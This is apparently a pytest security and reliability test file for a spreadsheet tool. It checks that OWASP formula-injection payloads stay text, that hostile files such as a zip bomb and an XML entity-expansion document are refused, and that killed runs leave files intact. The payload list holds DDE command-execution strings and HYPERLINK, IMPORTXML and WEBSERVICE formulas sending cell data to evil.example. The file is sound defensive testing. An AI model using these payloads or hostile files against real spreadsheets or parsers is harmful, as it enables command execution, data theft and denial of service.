"""Reliability and security: formula injection, hostile files, faults, kill test, property tests."""
import errno
import functools
import hashlib
import os
import random
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import python_calamine
from click.testing import CliRunner
from conftest import small_book
from fake_xlwings import FakeBook
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kam_xl import analyze, read_workbook
from kam_xl.app.cli import main
from kam_xl.authoring.template import write_template
from kam_xl.excel.xlwings_app import refresh_book
from kam_xl.inputs.reader import inputs_from_frames
from kam_xl.render.results_reader import read_results
from kam_xl.render.writer import write_workbook

# OWASP CSV-injection payloads (DDE, HYPERLINK, @SUM, +/- formulas, tab/CR-led).
PAYLOADS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1", "-2+3+cmd|' /C calc'!A0", "=1+1", "@SUM(A1:A2)", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "+IMPORTHTML(\"x\")",
    "-1+1|cmd", "=WEBSERVICE(\"http://evil.example\")", "==1",
]


def injected_book():
    tables = small_book()
    customers = tables["Customers"].astype(object)
    for i, column in enumerate(["CustomerName", "Industry", "Size", "Region", "AccountManager"]):
        customers[column] = [PAYLOADS[(i * 4 + k) % len(PAYLOADS)] for k in range(len(customers))]
    tables["Customers"] = customers
    tables["Sales"] = tables["Sales"].assign(Product=[PAYLOADS[k % len(PAYLOADS)] for k in range(len(tables["Sales"]))])
    tables["Contacts"] = tables["Contacts"].assign(Feedback=PAYLOADS[:3], Owner=PAYLOADS[3:6], Channel=PAYLOADS[6:9])
    tables["Activities"] = tables["Activities"].assign(Activity=["Order", "Visit", "=Rebate", "Visit", "Order", "@x"])
    return tables


def all_formulas(path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_injection_payloads_stay_text_in_every_writer(tmp_path):
    tables = injected_book()
    source = write_template(tmp_path / "input.xlsx", tables)              # template writer (XlsxWriter)
    assert all_formulas(source) == [], "a payload became a formula in the input workbook"
    inputs = read_workbook(source)
    assert inputs["Customers"]["CustomerName"].tolist() == [p.strip() for p in tables["Customers"]["CustomerName"]]
    results = analyze(inputs)
    summary = write_workbook(results, tmp_path / "summary.xlsx")           # summary writer
    ours = all_formulas(summary)
    markers = ["cmd", "HYPERLINK", "DDE", "IMPORT", "WEBSERVICE", "SUM(1+9)", "SUM(A1", "evil", "1+1", "2+3"]
    leaked = [f for f in ours if any(m in f for m in markers)]
    assert leaked == [], leaked
    back = read_results(summary)["Classification"].set_index("CustomerID")
    assert back["CustomerName"].tolist() == results["Classification"]["CustomerName"].tolist()
    fake = FakeBook.from_file(source)                                      # xlwings macro writer
    inputs_sheets = {s.name for s in fake.sheets}
    refresh_book(fake)
    outputs = [v for s in fake.sheets if s.name not in inputs_sheets for v in s.cells.values() if isinstance(v, str)]
    typed = [v for v in outputs if v and v[0] in "=+-@\t\r"]
    assert typed == [], typed[:3]
    written = [v for v in outputs if v.startswith("'")]
    assert written
    columns = 5 + 1 + 3 + 1
    print(f"injection: {len(PAYLOADS)} payloads in {columns} text columns; {len(ours)} formulas checked in the "
          f"summary, {len(written)} payload cells typed as text by the macro")


HOSTILE = {}


def hostile(name):
    def register(function):
        HOSTILE[name] = function
        return function
    return register


@hostile("not a zip")
def _(tmp):
    (tmp / "f.xlsx").write_bytes(b"hello, this is not a workbook")


@hostile("truncated zip")
def _(tmp):
    data = (tmp / "good.xlsx").read_bytes()
    (tmp / "f.xlsx").write_bytes(data[: len(data) // 2])


@hostile("encrypted without password")
def _(tmp):
    from kam_xl.inputs.crypto import encrypt_in_place
    (tmp / "f.xlsx").write_bytes((tmp / "good.xlsx").read_bytes())
    encrypt_in_place(tmp / "f.xlsx", "secret")


@hostile("zip bomb")
def _(tmp):
    with zipfile.ZipFile(tmp / "f.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(160):
                member.write(chunk)


@hostile("XML entity expansion")
def _(tmp):
    laughs = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>"
    with zipfile.ZipFile(tmp / "good.xlsx") as src, zipfile.ZipFile(tmp / "f.xlsx", "w") as out:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/workbook.xml":
                data = data.replace(b"?>", b"?>" + laughs.encode(), 1).replace(b'name="Customers"', b'name="&i;"')
            out.writestr(info, data)


@hostile("xls renamed")
def _(tmp):
    (tmp / "f.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)


@hostile("csv renamed")
def _(tmp):
    (tmp / "f.xlsx").write_text("CustomerID,Name\nC1,Alpha\n")


@hostile("a folder")
def _(tmp):
    (tmp / "f.xlsx").mkdir()


@hostile("missing file")
def _(tmp):
    pass


def test_hostile_files_fail_fast_with_one_line(tmp_path):
    write_template(tmp_path / "good.xlsx", small_book())
    runner = CliRunner()
    for name, make in HOSTILE.items():
        case = tmp_path / name.replace(" ", "_")
        case.mkdir()
        (case / "good.xlsx").write_bytes((tmp_path / "good.xlsx").read_bytes())
        make(case)
        start = time.perf_counter()
        result = runner.invoke(main, ["build", str(case / "f.xlsx"), "-o", str(case / "out.xlsx")])
        elapsed = time.perf_counter() - start
        errors = [line for line in result.output.splitlines() if line.startswith("error:")]
        assert result.exit_code == 2, (name, result.output)
        assert len(errors) == 1 and "Traceback" not in result.output, (name, result.output)
        assert elapsed < 10 and not (case / "out.xlsx").exists(), name
    print(f"hostile files: {len(HOSTILE)} tried, each refused with one line and exit 2")


def test_a_million_empty_formatted_rows_is_read_in_bounded_memory(tmp_path):
    source = write_template(tmp_path / "base.xlsx", small_book())
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(tmp_path / "wide.xlsx", "w", zipfile.ZIP_DEFLATED) as out:
        parts = {a: src.read(a) for a in src.namelist()}
        workbook = parts["xl/workbook.xml"].decode()
        for info in src.infolist():
            data = parts[info.filename]
            if info.filename == "xl/worksheets/sheet3.xml":                # Sales
                rows = "".join(f'<row r="{r}" s="1" customFormat="1"><c r="A{r}" s="1"/></row>'
                               for r in range(20, 1_048_577))
                data = data.replace(b"</sheetData>", rows.encode() + b"</sheetData>")
            out.writestr(info, data)
        assert "Sales" in workbook
    # VmHWM, the peak of this process image: ru_maxrss would carry the pytest parent's size across exec.
    script = (f"import re, kam_xl; i = kam_xl.read_workbook({str(tmp_path / 'wide.xlsx')!r}); "
              "peak = int(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read())[1]) // 1024; "
              "print(len(i['Sales']), peak)")
    start = time.perf_counter()
    rows, peak_mb = map(int, subprocess.check_output([sys.executable, "-c", script], text=True).split())
    assert rows == 8 and peak_mb < 1500 and time.perf_counter() - start < 60
    print(f"1,048,576 formatted rows: {rows} sales rows read, peak {peak_mb} MB")


def test_full_disk_leaves_the_old_summary(tmp_path, monkeypatch):
    results = analyze(inputs_from_frames(small_book()))
    target = write_workbook(results, tmp_path / "s.xlsx")
    before = target.read_bytes()

    def full(*_):
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError):
        write_workbook(results, target)
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["s.xlsx"]               # the temporary file is gone


@pytest.fixture(scope="module")
def big_input(tmp_path_factory):
    from kam_xl.authoring import demo
    folder = tmp_path_factory.mktemp("kill")
    return write_template(folder / "big.xlsm", demo.generate(customers=200, seed=3))


CLI = [sys.executable, "-m", "kam_xl.app.cli"]


def _run_and_kill(command, delay):
    """Start ``command`` and SIGKILL it after ``delay`` seconds (None: let it finish)."""
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if delay is None:
        process.wait()
        return
    time.sleep(delay)
    process.send_signal(signal.SIGKILL)
    process.wait()


def _identity(path: Path) -> tuple[int, int]:
    """(inode, modification time): an atomic replace gives the path a new file, so this changes
    exactly when a run completed its output, whatever the bytes (no need to wait for RunTime to differ)."""
    stat = path.stat()
    return stat.st_ino, stat.st_mtime_ns


def _delays(rng, full_run, kills):
    """Kill times spread over the whole run (each at a random point of its own slice, so reading,
    analysing, writing and the final replace are all hit), plus one kill right after the start (the
    old file must stay) and one run left to finish (a complete new file must appear), so both
    outcomes are exercised on every machine, however fast."""
    slice_ = full_run * 1.2 / kills
    return [rng.uniform(i * slice_, (i + 1) * slice_) + 0.05 for i in range(kills)] + [0.05, None]


@pytest.mark.slow(16)
def test_sigkill_during_build(tmp_path, big_input):
    rng = random.Random(1)
    digest = hashlib.sha256(big_input.read_bytes()).hexdigest()
    target = tmp_path / "summary.xlsx"
    start = time.perf_counter()
    subprocess.run(CLI + ["build", str(big_input), "-o", str(target)], check=True, capture_output=True)
    full_run = time.perf_counter() - start
    old = _identity(target)
    outcomes = {"old": 0, "new": 0}
    for delay in _delays(rng, full_run, 4):
        _run_and_kill(CLI + ["build", str(big_input), "-o", str(target)], delay)
        if _identity(target) == old:
            outcomes["old"] += 1
        else:                                                              # replaced: complete and readable
            assert len(read_results(target)["Profitability"]) == 200
            outcomes["new"] += 1
            old = _identity(target)
        assert hashlib.sha256(big_input.read_bytes()).hexdigest() == digest
    assert outcomes["old"] >= 1 and outcomes["new"] >= 1, outcomes
    print(f"kill test: 6 builds killed at random or left to finish; the target was the old file "
          f"{outcomes['old']}x, a complete new one {outcomes['new']}x; the input unchanged every time")


@pytest.mark.slow(15)
def test_sigkill_during_refresh(tmp_path, big_input):
    rng = random.Random(2)
    workbook = tmp_path / "book.xlsm"
    workbook.write_bytes(big_input.read_bytes())
    start = time.perf_counter()
    subprocess.run(CLI + ["refresh", str(workbook)], check=True, capture_output=True)
    refresh_run = time.perf_counter() - start
    refreshed = {"old": 0, "new": 0}
    for delay in _delays(rng, refresh_run, 3):
        before = _identity(workbook)
        _run_and_kill(CLI + ["refresh", str(workbook)], delay)
        if _identity(workbook) != before:
            assert len(read_results(workbook)["Profitability"]) == 200
            refreshed["new"] += 1
        else:
            refreshed["old"] += 1
        python_calamine.CalamineWorkbook.from_path(str(workbook)).close()
    assert refreshed["old"] >= 1 and refreshed["new"] >= 1, refreshed
    print(f"kill test: 5 refreshes killed at random or left to finish; the workbook was the old file "
          f"{refreshed['old']}x, a complete new one {refreshed['new']}x")


# ----- property tests -------------------------------------------------------------------------

BAD_NUMBERS = st.one_of(st.sampled_from(["#N/A", "#VALUE!", "#DIV/0!", "abc", "1,2,3x", "¥", "inf", "nan", "--5"]),
                        st.text(alphabet="xyz!?", min_size=1, max_size=5))
BAD_DATES = st.sampled_from(["1850-01-01", "9999-12-31", "2026/13/45", "yesterday", "#REF!", -5.0, "0000-00-00"])
BAD_IDS = st.sampled_from(["ZZZ-unknown", "   ", "\u3000", "C-404"])
EXTREME = st.one_of(st.floats(min_value=-1e15, max_value=1e15, allow_nan=False), st.integers(-10**12, 10**12))
EXAMPLES = {"clean": 0, "analysed": 0, "any": 0}


@functools.cache
def _clean_profitability() -> pd.DataFrame:
    """The small book's Profitability without any rejected row: the same for every generated example."""
    return analyze(_clean_inputs())["Profitability"]


@st.composite
def _dirty_small_books(draw):
    """The small book with 1-6 bad Sales rows (a bad date, customer or amount) put in at random places;
    returns the tables and the worksheet rows of the bad lines."""
    tables = small_book()
    clean = tables["Sales"]
    bad_rows = []
    for _ in range(draw(st.integers(1, 6))):
        row = clean.iloc[draw(st.integers(0, len(clean) - 1))].astype(object).copy()
        column = draw(st.sampled_from(["Date", "CustomerID", "NetRevenue"]))
        row[column] = draw({"Date": BAD_DATES, "CustomerID": BAD_IDS, "NetRevenue": BAD_NUMBERS}[column])
        bad_rows.append(row)
    positions = sorted(draw(st.lists(st.integers(0, len(clean)), min_size=len(bad_rows), max_size=len(bad_rows))))
    mixed, inserted, taken = [], [], 0
    for i in range(len(clean) + 1):
        while taken < len(bad_rows) and positions[taken] == i:
            inserted.append(len(mixed) + 2)
            mixed.append(bad_rows[taken])
            taken += 1
        if i < len(clean):
            mixed.append(clean.iloc[i].astype(object))
    return dict(tables, Sales=pd.DataFrame(mixed).reset_index(drop=True)), inserted


def _without_rows(inputs) -> dict[str, pd.DataFrame]:
    return {name: table.drop(columns="_row").reset_index(drop=True) for name, table in inputs.tables.items()}


@functools.cache
def _clean_inputs():
    return inputs_from_frames(small_book())


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(book=_dirty_small_books())
def _rejected_rows_property(book):
    """Every bad line is an Error on its own row, and what reaches the analysis is exactly the clean book:
    the same tables, values and types (only the worksheet row numbers of the lines after a bad one differ)."""
    dirty, inserted = book
    inputs = inputs_from_frames(dirty)
    flagged = set(inputs.dq.frame().query("Table == 'Sales' and Severity == 'Error'")["Row"].dropna().astype(int))
    assert set(inserted) <= flagged
    got, want = _without_rows(inputs), _without_rows(_clean_inputs())
    assert list(got) == list(want)
    for name in want:
        pd.testing.assert_frame_equal(got[name], want[name], check_exact=True, obj=name)
    assert inputs.params == _clean_inputs().params
    EXAMPLES["clean"] += 1


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(book=_dirty_small_books())
def _rejected_rows_analysis_property(book):
    """... and the analysis of the dirty book, which also holds its row numbers and DataQuality errors,
    gives the clean book's figures."""
    got = analyze(inputs_from_frames(book[0]))["Profitability"]
    pd.testing.assert_frame_equal(got, _clean_profitability())
    EXAMPLES["analysed"] += 1


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(values=st.lists(st.one_of(st.none(), BAD_NUMBERS, BAD_DATES, EXTREME, st.text(max_size=8),
                                 st.sampled_from(["  C1 ", "C1", "c1", "１２３", "¥1,234.50", "12%"])),
                       min_size=8, max_size=8), rows=st.integers(1, 12))
def _any_cell_mix_property(values, rows):
    customers = pd.DataFrame({"CustomerID": ["C1", " C1", "C2", None], "CreditLimit": values[:4]})
    line = {"Date": values[4], "CustomerID": values[5], "NetRevenue": values[6], "COGS": values[7]}
    sales = pd.DataFrame([line] * rows)
    inputs = inputs_from_frames({"Customers": customers, "Sales": sales})
    records = inputs.dq.frame()
    for row in records[records.Severity == "Error"].Row.dropna():
        assert 2 <= row <= max(rows, 4) + 1                                # points at a real worksheet row
    blank = all(v is None or (isinstance(v, str) and not v.strip()) for v in values[4:])
    everything = set() if blank else set(range(2, rows + 2))               # blank rows are skipped, by contract
    used = set(inputs["Sales"]["_row"]) if "Sales" in inputs.tables else set()
    rejected = set(records.query("Table == 'Sales' and Severity == 'Error'").Row.dropna().astype(int))
    assert used | rejected == everything                                   # nothing dropped silently
    if not inputs.fatal and used:
        analyze(inputs)
    EXAMPLES["any"] += 1


@pytest.mark.slow(12)
def test_rejected_rows_never_change_the_clean_metrics():
    EXAMPLES["clean"] = EXAMPLES["analysed"] = 0
    _rejected_rows_property()
    _rejected_rows_analysis_property()
    assert EXAMPLES["clean"] >= 20 and EXAMPLES["analysed"] >= 6           # real generated books were checked
    print(f"property test: {EXAMPLES['clean']} generated books with rejected rows read as the clean book, "
          f"{EXAMPLES['analysed']} of them analysed to its figures")


def test_reader_survives_any_cell_mix():
    EXAMPLES["any"] = 0
    _any_cell_mix_property()
    assert EXAMPLES["any"] >= 30
    print(f"property test: {EXAMPLES['any']} random cell mixes")


def test_no_permission_and_locked_workbook(tmp_path, monkeypatch, demo_tables):
    from kam_xl import InputError
    from kam_xl.app.build import build_file, refresh_file
    source = write_template(tmp_path / "Book.xlsx", demo_tables)
    real_open = Path.open

    def denied(self, *args, **kwargs):
        if self == source:
            raise PermissionError(13, "Permission denied")
        return real_open(self, *args, **kwargs)
    with monkeypatch.context() as patch:
        patch.setattr(Path, "open", denied)
        with pytest.raises(InputError, match="no permission"):
            read_workbook(source)
    lock = tmp_path / ".~lock.Book.xlsx#"
    lock.write_text("user,host")
    before = source.read_bytes()
    outcome = refresh_file(source)
    assert outcome.exit_code == 2 and "is open in a spreadsheet program" in outcome.message
    assert source.read_bytes() == before and not list(tmp_path.glob("*.backup-*"))
    lock.unlink()
    # An output folder nobody can write to, root included (CI runs as root): a "folder" that is a file ...
    not_a_folder = tmp_path / "out"
    not_a_folder.write_text("a file, not a folder")
    result = build_file(source, out_dir=not_a_folder)
    assert result.exit_code == 2 and result.message.startswith(str(source)) and "Error" in result.message
    assert not_a_folder.read_text() == "a file, not a folder"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["Book.xlsx", "out"]          # nothing half-written
    # ... and /proc, which refuses new files for every user.
    if Path("/proc/self").is_dir():
        result = build_file(source, out_dir=Path("/proc"))
        assert result.exit_code == 2 and result.message.startswith(str(source))
    # A real EACCES where the user is not root (root ignores mode bits).
    if os.geteuid() != 0:
        (tmp_path / "ro").mkdir()
        (tmp_path / "ro").chmod(0o500)
        result = build_file(source, out_dir=tmp_path / "ro")
        assert result.exit_code == 2 and "Permission" in result.message
